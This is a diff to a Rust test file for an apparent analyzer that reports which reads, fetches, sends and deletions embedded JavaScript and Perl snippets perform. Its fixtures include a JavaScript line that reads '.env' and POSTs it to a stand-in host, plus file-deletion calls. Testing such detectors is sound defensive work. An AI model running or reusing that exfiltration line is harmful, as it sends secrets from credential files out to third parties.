@@ -1,5 +1,7 @@
 //! Code of embedded languages: which calls are seen, with which arguments, and which are not.
 
+// Each of the two test programs uses its own part.
+#[allow(dead_code)]
 #[path = "interpret/support.rs"]
 mod support;
 
@@ -146,7 +148,12 @@ fn calls_are_read() {
         (
             "javascript",
             "fetch('https://e.org', {method: 'POST', body: fs.readFileSync('.env')})",
-            &["reads .env", "fetches @https://e.org", "sends ‹›", "sends /work/.env from /work/.env", "sends from /work/.env"],
+            &[
+                "reads .env",
+                "fetches @https://e.org",
+                "sends /work/.env from /work/.env",
+                "sends @https://e.org from /work/.env",
+            ],
         ),
         ("javascript", "const re = /rm 'x/; fs.rmSync('/x')", &["deletes /x"]),
         ("perl", "unlink '/x', '/y';", &["deletes /x", "deletes /y"]),
